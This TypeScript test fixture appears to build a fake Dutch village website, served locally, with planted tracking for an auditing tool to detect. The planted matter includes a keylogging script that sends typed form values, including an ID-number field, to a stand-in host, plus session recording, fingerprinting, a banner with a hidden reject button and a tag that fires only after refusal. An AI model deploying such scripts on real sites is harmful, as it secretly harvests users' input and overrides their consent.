/**
 * A village whose site does what was planted for four other tools, page by page, and those that it calls in. The names
 * of others are real and lead to this machine, so that the lists and the owners are the ones that are used.
 */
import { createHash, randomUUID } from 'node:crypto'
import type { IncomingMessage, ServerResponse } from 'node:http'
import { createServer as createHttpsServer } from 'node:https'
import type { Duplex } from 'node:stream'
import type { Network } from '../../src/model/network.ts'
import { certify, listen, serveHttp } from '../../src/outside/test-net.ts'

export const HOME = 'www.dorp.test'

type Part = { readonly type: string; readonly body: string; readonly cookie?: string }
const script = (body: string, cookie?: string): Part => ({ type: 'text/javascript', body, ...(cookie && { cookie }) })
const lasting = (name: string) => `${name}={number}; Max-Age=63072000; Path=/; Secure; SameSite=None`

/** Keeps a number of the visitor, one that looks like a moment, and tells it to its maker. */
const COUNTING = script(`
  if (!document.cookie.includes('_ga=')) document.cookie = '_ga=GA1.1.' + Math.floor(15e8 + Math.random() * 4e8) + '.' +
    Math.floor(Date.now() / 1000) + '; max-age=63072000; path=/; secure'
  const [, cid] = /_ga=GA1\\.1\\.([\\d.]+)/.exec(document.cookie)
  navigator.sendBeacon('https://www.google-analytics.com/g/collect?v=2&tid=G-DORP&cid=' + cid)`)
/** Draws letters and reads them back, tries sixty letter types, and sends something: on no list. */
const FOLLOWING = script(
  `const pen = Object.assign(document.createElement('canvas'), { width: 240, height: 60 }).getContext('2d')
  for (const [at, colour] of ['#f60', '#069'].entries()) {
    pen.fillStyle = colour
    pen.fillText('Pa’s wijze lynx bezag vroom het fikse aquaduct', 4 + at, 20 + at)
  }
  const drawn = pen.canvas.toDataURL().length
  const box = document.body.appendChild(document.createElement('span'))
  box.textContent = 'mmmmmmmmmmlli'
  for (let at = 0; at < 60; at++) { box.style.fontFamily = 'Letter' + at; box.offsetWidth }
  box.remove()
  fetch('https://volger.test/in?d=' + drawn)`,
  lasting('volg'),
)
/** Films: on no list. */
const FILMING = script(`
  const send = (what) => navigator.sendBeacon('https://film.test/in', JSON.stringify(what))
  const moves = []
  document.addEventListener('mousemove', ({ clientX, clientY }) => moves.push([clientX, clientY]))
  for (const kind of ['keydown', 'scroll']) document.addEventListener(kind, () => moves.push(kind))
  new MutationObserver(() => {}).observe(document, { childList: true, subtree: true })
  addEventListener('load', () => send({ page: document.documentElement.outerHTML }))
  addEventListener('pagehide', () => send(moves))`)
/** Sends what is typed, in four ways. */
const TYPING = script(`
  const line = new WebSocket('wss://lijn.test/')
  addEventListener('input', async ({ target: { value } }) => {
    fetch('https://toetsen.test/post', { method: 'POST', body: JSON.stringify({ value }) })
    new Image().src = 'https://toetsen.test/get?d=' + encodeURIComponent(btoa(value))
    if (line.readyState === 1) line.send(value)
    const sum = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(value.trim().toLowerCase()))
    const text = [...new Uint8Array(sum)].map((one) => one.toString(16).padStart(2, '0')).join('')
    navigator.sendBeacon('https://toetsen.test/beacon', text)
  })`)
/** Fires only for who refused. */
const AFTER_NO = script(`if (document.cookie.includes('keuze=nee')) {
  const tag = document.createElement('script')
  tag.src = 'https://snap.licdn.com/li.lms-analytics/insight.min.js'
  document.head.append(tag)
}`)
/** A number of the site's own in a tab, a database and a cache. */
const KEEPING = script(`
  sessionStorage.bezoekerId ??= crypto.randomUUID()
  const asked = indexedDB.open('bank')
  asked.onupgradeneeded = () => asked.result.createObjectStore('wie')
  asked.onsuccess = () => {
    const store = asked.result.transaction('wie', 'readwrite').objectStore('wie')
    store.get(1).onsuccess = ({ target }) => target.result || store.put({ id: crypto.randomUUID() }, 1)
  }
  caches.open('kast').then(async (kast) => {
    if (!(await kast.match('/wie'))) await kast.put('/wie', new Response(crypto.randomUUID()))
  })`)

const PARTS: Readonly<Record<string, Part>> = {
  [`${HOME}/bewaar.js`]: KEEPING,
  [`${HOME}/na-nee.js`]: AFTER_NO,
  'www.google-analytics.com/analytics.js': COUNTING,
  'www.googletagmanager.com/gtm.js': script(''),
  'stats.g.doubleclick.net/r/collect': { type: 'image/gif', body: '', cookie: lasting('IDE') },
  'connect.facebook.net/nl_NL/fbevents.js': script('', lasting('fr')),
  'static.hotjar.com/c/hotjar-1.js': script(''),
  'www.clarity.ms/tag/dorp': script('', lasting('CLID')),
  'bat.bing.com/bat.js': script('', lasting('MUID')),
  'siteimproveanalytics.com/js/siteanalyze_1.js': script(''),
  'analytics.tiktok.com/i18n/pixel/events.js': script(''),
  'dorp.matomo.cloud/matomo.js': script(''),
  'snap.licdn.com/li.lms-analytics/insight.min.js': script(''),
  'www.youtube.com/embed/dorp': {
    type: 'text/html',
    body:
      '<!doctype html><html lang="nl"><title>Film</title><p>Een film over het dorp</p>' +
      `<script>localStorage['yt-remote-device-id'] ??= crypto.randomUUID()</script>`,
    cookie: lasting('VISITOR_INFO1_LIVE'),
  },
  'fonts.googleapis.com/css2': {
    type: 'text/css',
    body: '@font-face { font-family: D; src: url(https://fonts.gstatic.com/s/d.woff2) } h1 { font-family: D }',
  },
  'volger.test/volg.js': FOLLOWING,
  'film.test/film.js': FILMING,
  'toetsen.test/toets.js': TYPING,
}
const tag = (...addresses: readonly string[]) =>
  addresses.map((address) => `<script defer src="https://${address}"></script>`).join('\n')

/** Who hears of a visit before anything was chosen: ten on the list of trackers, and others. */
export const LISTED = [
  'www.google-analytics.com',
  'www.googletagmanager.com',
  'stats.g.doubleclick.net',
  'connect.facebook.net',
  'static.hotjar.com',
  'www.clarity.ms',
  'bat.bing.com',
  'siteimproveanalytics.com',
  'analytics.tiktok.com',
  'dorp.matomo.cloud',
] as const
export const OTHERS = [
  'www.youtube.com',
  'fonts.googleapis.com',
  'fonts.gstatic.com',
  'volger.test',
  'film.test',
  'toetsen.test',
  'lijn.test',
] as const
/** Met on one page alone, away from the landing page. */
export const AWAY = {
  '/contact': ['bat.bing.com', 'siteimproveanalytics.com'],
  '/dienst/3': ['analytics.tiktok.com', 'dorp.matomo.cloud'],
} as const
export const COOKIES = ['CLID', 'IDE', 'MUID', 'VISITOR_INFO1_LIVE', 'fr', 'volg'] as const

/** Made at home; what says no on the first layer is there for programs alone. */
const QUESTION = `<div id="vraag" role="dialog" aria-label="Cookies"
  style="position:fixed;inset:auto 0 0 0;background:#fff;color:#222;padding:16px">
  <p>Wij en onze partners gebruiken cookies om u te volgen en u reclame te laten zien. Vindt u dat goed?</p>
  <div id="laag"><button onclick="kies('ja')">Alles accepteren</button>
    <button style="display:none" onclick="kies('nee')">Weigeren</button>
    <button onclick="laag.hidden = true; soorten.hidden = false">Instellingen</button></div>
  <div id="soorten" hidden><label><input type="checkbox"> Reclame</label>
    <button onclick="kies('nee')">Alles weigeren</button></div></div>
<script>
  const kies = (word) => { document.cookie = 'keuze=' + word + '; max-age=9999999; path=/; secure'; vraag.remove() }
  if (document.cookie.includes('keuze=')) vraag.remove()</script>`
const FORM = `<form method="post" action="/klaar"><label>Naam * <input name="naam" required></label>
  <label>E-mailadres <input type="email" name="email"></label>
  <label>Burgerservicenummer <input name="bsn" inputmode="numeric"></label>
  <label>Uw vraag <textarea name="vraag"></textarea></label><button>Verstuur</button></form>`
const NEVER_IDLE = `<script>new EventSource('/stroom'); setInterval(() => fetch('/peil'), 200)</script>`

const EVERYWHERE =
  '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=D">' +
  tag(
    `${HOME}/bewaar.js`,
    `${HOME}/na-nee.js`,
    'www.google-analytics.com/analytics.js',
    'www.googletagmanager.com/gtm.js?id=GTM-DORP',
    'connect.facebook.net/nl_NL/fbevents.js',
    'static.hotjar.com/c/hotjar-1.js',
    'www.clarity.ms/tag/dorp',
    'volger.test/volg.js',
    'film.test/film.js',
    'toetsen.test/toets.js',
  )
const ALSO =
  '<img src="https://stats.g.doubleclick.net/r/collect?t=dc" alt="" width="1" height="1">' +
  '<iframe src="https://www.youtube.com/embed/dorp" title="Film" width="300" height="200"></iframe>'
const page = (
  title: string,
  body: string,
) => `<!doctype html><html lang="nl"><meta charset="utf-8"><title>${title}</title>
  ${EVERYWHERE}<body>${QUESTION}<main><h1>${title}</h1>
  <p>De brug bij de haven gaat maandag dicht voor onderhoud aan het dek</p>
  <p>Fietsers rijden drie weken om langs de oude sluis bij de molen</p>${body}</main>${ALSO}`
const links = ['contact', 'privacy', 'nieuws', 'dienst/3']
const PAGES: Readonly<Record<string, string>> = {
  '/': page('Dorp', links.map((name) => `<p><a href="/${name}">${name}</a></p>`).join('')),
  '/contact': page('Contact', `${FORM}${tag('bat.bing.com/bat.js', 'siteimproveanalytics.com/js/siteanalyze_1.js')}`),
  '/privacy': page('Privacyverklaring', '<p>Wij bewaren uw gegevens een jaar.</p>'),
  '/nieuws': page('Nieuws', `<p>De markt is verplaatst.</p>${NEVER_IDLE}`),
  '/dienst/3': page(
    'Een hond aangeven',
    `<p>Bel de balie.</p>${tag('analytics.tiktok.com/i18n/pixel/events.js', 'dorp.matomo.cloud/matomo.js')}`,
  ),
}

function answer(request: IncomingMessage, response: ServerResponse): void {
  const host = request.headers.host ?? ''
  const path = request.url!.split('?')[0]!
  const own = host === HOME ? PAGES[path] : undefined
  if (own !== undefined) return void response.writeHead(200, { 'content-type': 'text/html' }).end(own)
  if (path === '/stroom') {
    response.writeHead(200, { 'content-type': 'text/event-stream' }).write('data: 1\n\n')
    return
  }
  const part = PARTS[host + path]
  const headers = { 'access-control-allow-origin': '*', 'content-type': part?.type ?? 'text/plain' }
  const cookie = part?.cookie?.replace('{number}', randomUUID())
  const known = cookie !== undefined && request.headers.cookie?.includes(cookie.split('=')[0]!)
  response.writeHead(part || host !== HOME || path === '/peil' ? 200 : 404, {
    ...headers,
    ...(cookie !== undefined && !known && { 'set-cookie': cookie }),
  })
  response.end(part?.body ?? '')
}

function socket(request: IncomingMessage, line: Duplex): void {
  const key = `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`
  const proof = createHash('sha1').update(key).digest('base64')
  line.write('HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: Upgrade\r\n')
  line.write(`sec-websocket-accept: ${proof}\r\n\r\n`)
  line.on('error', () => line.destroy()).on('end', () => line.end())
  line.resume()
}

/** Serves the village and all others on this machine; `stopAll` of the test's net ends it. */
export async function servePlanted(): Promise<Network> {
  const here = '127.0.0.1'
  const names = [HOME, ...LISTED, ...OTHERS, 'snap.licdn.com']
  const authority = certify('Gezag', { authority: true })
  const web = createHttpsServer(certify(HOME, { names, by: authority }).tls, answer)
  const secure = await listen(web.on('upgrade', socket).on('tlsClientError', () => undefined))
  const plain = await serveHttp((request, response) =>
    response.writeHead(301, { location: `https://${request.headers.host}${request.url}` }).end(),
  )
  return {
    allow: [`${here}/32`],
    resolver: `${here}:9`,
    hosts: Object.fromEntries(names.map((name) => [name, here])),
    ports: { 80: plain, 443: secure },
    ca: authority.tls.cert,
  }
}
